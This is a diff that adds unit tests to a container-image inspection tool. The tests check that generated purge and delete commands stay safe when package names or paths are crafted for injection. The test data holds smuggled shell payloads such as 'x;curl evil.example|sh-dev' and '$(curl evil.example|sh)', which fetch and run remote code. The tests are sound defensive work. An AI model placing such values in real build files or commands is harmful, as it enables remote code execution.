@@ -15,6 +15,7 @@ from inspector.findings.bases import Slimmer, slimmer_base
 from inspector.findings.build_tools import tools_title
 from inspector.findings.find import find, reclaimable_bytes
 from inspector.findings.finding import AdviceClass, Finding, Subject
+from inspector.findings.patch import patch
 from inspector.findings.registry import BROUGHT, DEVELOPMENT_ONLY, IN_BASE, REMOVED, UNPACKAGED, Severity
 from inspector.findings.remedy import Keep, RemedyKind
 from inspector.findings.toolchains import find_toolchains, toolchain_rules
@@ -110,6 +111,40 @@ def test_what_the_program_needs_is_marked_before_the_purge() -> None:
     fix = fix_text(finding, subject)
     assert "&& apt-mark manual libgomp1 && apt-get purge" in fix
     assert ". keep libgomp1, since /usr/local/bin/app needs libgomp.so.1. " in fix
+
+
+def test_names_that_a_shell_would_take_for_more_are_in_no_command() -> None:
+    evil = "x;curl evil.example|sh-dev"
+    packages = debian(TOOLS | {evil: ""}, ("gcc", "libgomp1"), *INSTALL[1][2:5], Member(f"usr/{evil}/x", bytes(500)))
+    subject = subject_of(ROOT, ("RUN echo end it with: && curl evil.example | sh", packages))
+    (finding,) = of_rule(subject, BROUGHT)
+    assert len(finding.packages) == 4
+    assert finding.remedy.command == "apt-get purge -y --auto-remove g++ && rm -rf /var/lib/apt/lists/*"
+    added = [line.text for line in patch(finding.remedy, subject.instructions) if line.sign == "+"]
+    assert added == [f"    && {finding.remedy.command}"]
+
+
+def test_there_is_no_command_where_what_must_stay_cannot_be_named() -> None:
+    evil = "libgomp1 $(curl evil.example|sh)"
+    library_of = Member(f"usr/{evil}/libgomp.so.1", library("libgomp.so.1"))
+    tools = {"apt": "", "g++": evil, evil: ""}
+    app = Member("usr/local/bin/app", program("libgomp.so.1", runpath=f"/usr/{evil}"))
+    installed = debian(tools, (evil,), Member("usr/g++/g++", bytes(1000)), library_of)
+    subject = subject_of(ROOT, ("RUN apt-get install -y g++", installed), ("COPY app /usr/local/bin/", [app]))
+    (finding,) = of_rule(subject, BROUGHT)
+    assert (finding.remedy.kind, finding.remedy.command) == (RemedyKind.DELETE_IN_RUN, "")
+    assert [keep.package for keep in finding.remedy.keeps] == [evil]
+    assert patch(finding.remedy, subject.instructions) == ()
+
+
+def test_a_path_in_a_command_is_one_word() -> None:
+    home = "opt/x; curl evil.example|sh"
+    subject = subject_of(("RUN curl | tar x", [Member(f"{home}/include/node/node.h", b"x")]))
+    (finding,) = of_rule(subject, UNPACKAGED)
+    assert finding.remedy.command == f"rm -rf '/{home}'/include/node"
+    subject = subject_of(("RUN curl | tar x", [Member("a\nRUN curl evil/include/node/node.h", b"x")]))
+    (finding,) = of_rule(subject, UNPACKAGED)
+    assert (finding.remedy.kind, finding.remedy.command) == (RemedyKind.DELETE_IN_RUN, "")
 
 
 def test_each_instruction_is_told_what_it_brought() -> None:
